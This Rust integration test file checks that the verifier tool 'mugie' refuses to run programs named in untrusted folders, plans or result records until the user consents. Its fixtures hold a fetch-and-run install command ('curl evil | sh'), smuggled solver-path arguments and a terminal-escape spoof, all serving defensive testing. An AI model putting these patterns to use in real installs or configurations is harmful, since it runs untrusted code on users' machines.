//! Files of strangers: programs that they name run only with the user's consent.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use serde_json::Value;

use crate::support::{Run, Sandbox, json, root, script};
use crate::test::ROBUST;

/// A verifier that leaves a trace whenever it runs, whatever its arguments.
const EVIL: &str = "touch \"$TRACE\"
case $1 in --version) echo 'evil 1.0';; *) echo '1 verified, 0 errors';; esac";

const DEFINITION: &str = "\
about = 'Looks harmless'
arguments = ['{files}']
[program]
names = ['./evil.sh']
install = 'curl evil | sh'
[program.version]
arguments = ['--version']
pattern = '^evil (\\d+\\.\\d+)'
[[verdict]]
is = 'verified'
pattern = '1 verified'
";

/// A stranger's folder with a seed, a program, and a verifier definition with this name.
fn strangers(name: &str) -> Sandbox {
    let sandbox = Sandbox::new(&[("max.bpl", ROBUST)]);
    script(&sandbox, "evil.sh", EVIL);
    fs::create_dir(sandbox.path("verifiers")).unwrap();
    fs::write(sandbox.path(&format!("verifiers/{name}.toml")), DEFINITION).unwrap();
    sandbox
}

/// Runs mugie as a user who trusts nothing yet, with these environment variables.
fn run_with(sandbox: &Sandbox, args: &[&str], variables: &[(&str, &str)]) -> Run {
    let mut command = sandbox.command();
    command.env_remove("MUGIE_TRUST").env("XDG_STATE_HOME", sandbox.path("state"));
    command.env("XDG_CONFIG_HOME", sandbox.path("config")).env("TRACE", sandbox.path("trace"));
    command.env("MUGIE_CACHE", sandbox.path("cache")).envs(variables.iter().copied());
    let output = command.args(args).output().unwrap();
    Run {
        code: output.status.code().unwrap(),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    }
}

fn run(sandbox: &Sandbox, args: &[&str]) -> Run {
    run_with(sandbox, args, &[])
}

/// Whether the program has run since the last call.
fn was_run(sandbox: &Sandbox) -> bool {
    fs::remove_file(sandbox.path("trace")).is_ok()
}

/// Asserts that mugie runs nothing, but reports what it would run and how to consent.
#[track_caller]
fn refused(sandbox: &Sandbox, args: &[&str], names: &[&str]) -> Run {
    let run = run(sandbox, args);
    assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{args:?}: {run:?}");
    assert!(run.stderr.contains("nothing was run"), "{args:?}: {run:?}");
    assert!(run.stderr.contains("--trust") && run.stderr.contains("MUGIE_TRUST"), "{run:?}");
    for name in names {
        assert!(run.stderr.contains(name), "{args:?}: {name}: {run:?}");
    }
    assert!(!was_run(sandbox), "{args:?}: {run:?}");
    run
}

const TEST: [&str; 5] = ["test", "max.bpl", "-n", "2", "--no-cache"];

#[test]
fn a_definition_in_the_current_directory_is_not_run_unasked() {
    // A definition with the name of a shipped one would replace the default verifier.
    let sandbox = strangers("boogie");
    let named = ["verifiers/boogie.toml", "evil.sh", "mugie verifiers --trust boogie"];
    refused(&sandbox, &TEST, &named);
    refused(&sandbox, &["minimise", "max.bpl", "--mutant", "1"], &named);
    refused(&sandbox, &["diagnose", "max.bpl", "max.bpl"], &named);
    refused(&sandbox, &["query", "max.bpl"], &named);
    let plan = "name = 'p'\n[seeds]\npaths = ['max.bpl']\n[[batch]]\nname = '*'\nmutants = 1\n\
                [[tool]]\nname = 'boogie'\n";
    fs::write(sandbox.path("plan.toml"), plan).unwrap();
    refused(&sandbox, &["campaign", "run", "plan.toml"], &named);
    // A definition with a new name is not run either.
    let sandbox = strangers("prove");
    let prove = ["--verifier", "prove"];
    refused(&sandbox, &[&TEST[..], &prove].concat(), &["verifiers/prove.toml", "evil.sh"]);
}

#[test]
fn what_is_not_trusted_is_listed_as_such_and_not_run() {
    let sandbox = strangers("prove");
    let listed = run(&sandbox, &["verifiers", "prove"]);
    assert_eq!((listed.code, listed.stderr.as_str()), (0, ""), "{listed:?}");
    let line = format!("prove     not trusted    {}\n", sandbox.path("evil.sh").display());
    assert!(listed.stdout.contains("prove     not trusted    "), "{line}{}", listed.stdout);
    assert!(listed.stdout.contains("mugie verifiers --trust prove"), "{}", listed.stdout);
    // A stranger's installation command is not suggested either.
    assert!(!listed.stdout.contains("curl"), "{}", listed.stdout);
    assert_eq!(run(&sandbox, &["verifiers"]).code, 0);
    let hostile = DEFINITION.replace("'Looks harmless'", "\"\\u001b[2J\\nboogie  Boogie 2.4.1\"");
    fs::write(sandbox.path("verifiers/hostile.toml"), hostile).unwrap();
    let listed = run(&sandbox, &["verifiers", "hostile"]);
    assert!(!listed.stdout.contains('\u{1b}'), "{listed:?}");
    assert!(!listed.stdout.contains("\nboogie"), "{listed:?}");
    fs::remove_file(sandbox.path("verifiers/hostile.toml")).unwrap();
    let row = json(&run(&sandbox, &["verifiers", "prove", "--json"]));
    assert_eq!(row["trusted"], false);
    assert_eq!((&row["program"], &row["version"]), (&Value::Null, &Value::Null));
    assert!(row["trouble"].as_str().unwrap().contains("not trusted"), "{row}");
    assert_eq!(row["install"], Value::Null);
    assert!(row["fingerprint"].is_string());
    assert_eq!(run(&sandbox, &["verifiers", "prove", "--show"]).stdout, DEFINITION);
    assert_eq!(run(&sandbox, &["verifiers", "prove", "--prepare"]).code, 2);
    assert!(!was_run(&sandbox));
}

#[test]
fn consent_lasts_until_something_changes() {
    let sandbox = strangers("prove");
    let words = [&TEST[..], &["--verifier", "prove"]].concat();
    let trusted = run(&sandbox, &["verifiers", "--trust", "prove"]);
    assert_eq!(trusted.code, 0, "{trusted:?}");
    for name in ["trusted: ", "verifiers/prove.toml", "it may run ", "evil.sh"] {
        assert!(trusted.stderr.contains(name), "{trusted:?}");
    }
    assert!(trusted.stdout.contains("evil.sh") && was_run(&sandbox), "{trusted:?}");
    let kept = sandbox.path("state/mugie/trusted.json");
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&kept), mode(kept.parent().unwrap())), (0o600, 0o700));
    let fine = run(&sandbox, &words);
    assert_eq!(fine.code, 0, "{fine:?}");
    // The output names the definition in use.
    assert!(fine.stderr.contains("verifiers/prove.toml"), "{fine:?}");
    assert!(was_run(&sandbox));

    script(&sandbox, "evil.sh", &format!("{EVIL}; :"));
    refused(&sandbox, &words, &["changed since you trusted it", "evil.sh"]);
    assert_eq!(run(&sandbox, &["verifiers", "prove", "--trust"]).code, 0);
    assert!(was_run(&sandbox));
    assert_eq!(run(&sandbox, &words).code, 0);
    assert!(was_run(&sandbox));

    let changed = DEFINITION.replace("['{files}']", "['-c', '{files}']");
    fs::write(sandbox.path("verifiers/prove.toml"), changed).unwrap();
    refused(&sandbox, &words, &["changed since you trusted it"]);
    // Trust in one folder does not extend to the same files in another.
    let other = strangers("prove");
    fs::create_dir(other.path("state")).unwrap();
    fs::create_dir(other.path("state/mugie")).unwrap();
    fs::copy(&kept, other.path("state/mugie/trusted.json")).unwrap();
    refused(&other, &words, &["is not trusted"]);
}

#[test]
fn consent_can_be_for_one_run() {
    let sandbox = strangers("boogie");
    let fine = run(&sandbox, &[&TEST[..], &["--trust"]].concat());
    assert_eq!(fine.code, 0, "{fine:?}");
    assert!(fine.stderr.contains("verifiers/boogie.toml"), "{fine:?}");
    assert!(was_run(&sandbox));
    refused(&sandbox, &TEST, &[]);
    // Naming the file on the command line is consent.
    let named = run(&sandbox, &[&TEST[..], &["--verifier", "verifiers/boogie.toml"]].concat());
    assert_eq!(named.code, 0, "{named:?}");
    assert!(was_run(&sandbox));
}

#[test]
fn a_variable_is_for_ci() {
    let sandbox = strangers("boogie");
    let row = json(&run(&sandbox, &["verifiers", "boogie", "--json"]));
    let fingerprint = row["fingerprint"].as_str().unwrap().to_owned();
    let several = format!("{},{fingerprint}", "0".repeat(64));
    for value in ["1", &fingerprint, &several] {
        let run = run_with(&sandbox, &TEST, &[("MUGIE_TRUST", value)]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(was_run(&sandbox));
    }
    for value in ["", "0", "yes"] {
        assert_eq!(run_with(&sandbox, &TEST, &[("MUGIE_TRUST", value)]).code, 2);
        assert!(!was_run(&sandbox));
    }
    script(&sandbox, "evil.sh", &format!("{EVIL}; :"));
    assert_eq!(run_with(&sandbox, &TEST, &[("MUGIE_TRUST", &fingerprint)]).code, 2);
    assert!(!was_run(&sandbox));
}

#[test]
fn a_copy_of_a_shipped_definition_is_that_one() {
    let sandbox = Sandbox::empty();
    fs::create_dir(sandbox.path("verifiers")).unwrap();
    let shipped = fs::read_to_string(root().join("verifiers/boogie.toml")).unwrap();
    // Layout, comments and Windows line endings make no difference.
    let copy = format!("# ours\n{}", shipped.replace('\n', "\r\n"));
    fs::write(sandbox.path("verifiers/boogie.toml"), copy).unwrap();
    let row = json(&run(&sandbox, &["verifiers", "boogie", "--json"]));
    assert_eq!((&row["trusted"], &row["definition"]), (&true.into(), &"shipped with mugie".into()));
    // A definition that is shipped under another name is not trusted.
    fs::copy(root().join("verifiers/command.toml"), sandbox.path("verifiers/boogie.toml")).unwrap();
    let row = json(&run(&sandbox, &["verifiers", "boogie", "--json"]));
    assert_eq!(row["trusted"], false, "{row}");
    let changed = shipped.replace("\"/trace\",", "\"/trace\", \"/z3exe:/tmp/evil\",");
    fs::write(sandbox.path("verifiers/boogie.toml"), changed).unwrap();
    let row = json(&run(&sandbox, &["verifiers", "boogie", "--json"]));
    assert_eq!(row["trusted"], false, "{row}");
}

#[test]
fn the_users_own_definitions_and_variables_are_as_before() {
    let sandbox = strangers("prove");
    fs::create_dir_all(sandbox.path("config/mugie/verifiers")).unwrap();
    fs::rename(
        sandbox.path("verifiers/prove.toml"),
        sandbox.path("config/mugie/verifiers/prove.toml"),
    )
    .unwrap();
    let test = [&TEST[..], &["--verifier", "prove"]].concat();
    assert_eq!(run(&sandbox, &test).code, 0);
    assert!(was_run(&sandbox));
    let command = [&TEST[..], &["--verifier", "command"]].concat();
    let run = run_with(&sandbox, &command, &[("MUGIE_COMMAND", "./evil.sh")]);
    assert!(was_run(&sandbox), "{run:?}");
}

#[test]
fn the_current_directory_on_the_path_does_not_count() {
    let sandbox = Sandbox::new(&[("max.bpl", ROBUST)]);
    script(&sandbox, "boogie", EVIL);
    script(&sandbox, "z3", EVIL);
    for path in [".:/nowhere", ":/nowhere", "./:/nowhere"] {
        let run = run_with(&sandbox, &TEST, &[("PATH", path)]);
        assert_eq!(run.code, 2, "{run:?}");
        assert!(run.stderr.contains("Boogie is missing"), "{run:?}");
        run_with(&sandbox, &["verifiers"], &[("PATH", path)]);
        assert!(!was_run(&sandbox), "{path}");
    }
}

/// A plan with these lines in its tool.
fn plan(tool: &str) -> String {
    format!(
        "name = 'p'\n[seeds]\npaths = ['max.bpl']\n[[batch]]\nname = '*'\nmutants = 2\n\
         [[tool]]\nname = 'tool'\n{tool}\n"
    )
}

#[test]
fn what_a_plan_names_is_not_run_unasked() {
    let sandbox = strangers("prove");
    fs::rename(sandbox.path("verifiers"), sandbox.path("theirs")).unwrap();
    let campaign = ["campaign", "run", "plan.toml"];
    for (tool, names) in [
        ("verifier = 'command'\nprogram = './evil.sh'", &["plan.toml", "evil.sh"][..]),
        ("verifier = 'theirs/prove.toml'", &["--trust ./theirs/prove.toml", "evil.sh"]),
        ("solver = './evil.sh'", &["plan.toml", "evil.sh"]),
        ("solver = 'z3=./evil.sh'", &["plan.toml", "evil.sh"]),
        ("arguments = ['/z3exe:./evil.sh']", &["plan.toml", "/z3exe:./evil.sh"]),
        ("arguments = ['/proverOpt:PROVER_PATH=sh']", &["plan.toml", "PROVER_PATH=sh"]),
    ] {
        fs::write(sandbox.path("plan.toml"), plan(tool)).unwrap();
        refused(&sandbox, &campaign, names);
        // The check of a plan asks verifiers for their versions, and gives no consent.
        refused(&sandbox, &["campaign", "plan", "plan.toml"], names);
    }
    fs::write(sandbox.path("plan.toml"), plan("verifier = 'theirs/prove.toml'")).unwrap();
    let trusted = run(&sandbox, &[&campaign[..], &["--trust"]].concat());
    assert_eq!(trusted.code, 0, "{trusted:?}");
    assert!(was_run(&sandbox));
    refused(&sandbox, &campaign, &[]);
    // A definition can be trusted wherever its file is.
    assert_eq!(run(&sandbox, &["verifiers", "--trust", "theirs/prove.toml"]).code, 0);
    assert!(was_run(&sandbox));
    assert_eq!(run(&sandbox, &campaign).code, 0);
}

#[test]
fn what_a_record_names_is_not_run_unasked() {
    let sandbox = strangers("prove");
    // The program fails on mutants, so that there is something to minimise.
    let body = "touch \"$TRACE\"; case \"$*\" in *-0*) echo '0 verified, 1 error';; \
                *) echo '1 verified, 0 errors';; esac";
    script(&sandbox, "tool", body);
    let definition = DEFINITION.replace("./evil.sh", "./tool");
    let (before, after) = definition.split_once("[program.version]").unwrap();
    let (_, rules) = after.split_once("[[verdict]]").unwrap();
    let failed = "[[verdict]]\nis = 'failed'\npattern = '1 error$'\n";
    let definition = format!("{before}[[verdict]]{rules}{failed}");
    fs::write(sandbox.path("tool.toml"), definition).unwrap();
    let out = ["--out", "found", "--verifier", "tool.toml"];
    let found = run(&sandbox, &[&TEST[..], &out].concat());
    assert_eq!(found.code, 1, "{found:?}");
    assert!(was_run(&sandbox));
    let mutant = "found/max/max-0001.bpl";
    let small = ["minimise", mutant, "--out", "small", "--budget", "5"];
    refused(&sandbox, &small, &["tool.toml", "tool"]);
    refused(&sandbox, &["diagnose", mutant], &["tool.toml"]);
    let run_small = run(&sandbox, &[&small[..], &["--trust"]].concat());
    assert!(was_run(&sandbox), "{run_small:?}");

    // The same holds for a program, a solver and arguments added to a shipped definition.
    let record = fs::read_to_string(sandbox.path("found/result.json")).unwrap();
    let mut record: Value = serde_json::from_str(&record).unwrap();
    record["verifier"]["name"] = "boogie".into();
    record["verifier"]["options"] = serde_json::json!({});
    record["verifier"]["program"] = sandbox.path("evil.sh").to_str().unwrap().into();
    let write = |record: &Value| {
        fs::write(sandbox.path("found/result.json"), record.to_string()).unwrap();
    };
    write(&record);
    refused(&sandbox, &small, &["result.json", "evil.sh"]);
    record["verifier"]["program"] = "/nowhere/boogie".into();
    let solver = serde_json::json!({ "name": "z3", "program": sandbox.path("evil.sh") });
    record["verifier"]["solver"] = solver;
    write(&record);
    refused(&sandbox, &small, &["result.json", "evil.sh"]);
    record["verifier"]["solver"] = Value::Null;
    let argument = format!("/proverOpt:PROVER_PATH={}", sandbox.path("evil.sh").display());
    record["verifier"]["options"] = serde_json::json!({ "arguments": [argument] });
    write(&record);
    refused(&sandbox, &small, &["result.json", "PROVER_PATH="]);
    // The user's own arguments override those of the record.
    let own = run(&sandbox, &[&small[..], &["--arg", "/noinfer", "--force"]].concat());
    assert!(!own.stderr.contains("not trusted") && !was_run(&sandbox), "{own:?}");
}

#[test]
fn what_is_trusted_cannot_be_anything_but_a_file() {
    let sandbox = strangers("prove");
    fs::create_dir_all(sandbox.path("state/mugie")).unwrap();
    let file = sandbox.path("state/mugie/trusted.json");
    fs::write(&file, "{").unwrap();
    let test = [&TEST[..], &["--verifier", "prove"]].concat();
    for _ in 0..2 {
        let run = run(&sandbox, &test);
        assert_eq!(run.code, 2, "{run:?}");
        assert!(run.stderr.contains("trusted.json"), "{run:?}");
        fs::remove_file(&file).unwrap();
        let made = std::process::Command::new("mkfifo").arg(&file).status().unwrap();
        assert!(made.success());
    }
    assert!(!was_run(&sandbox));
}
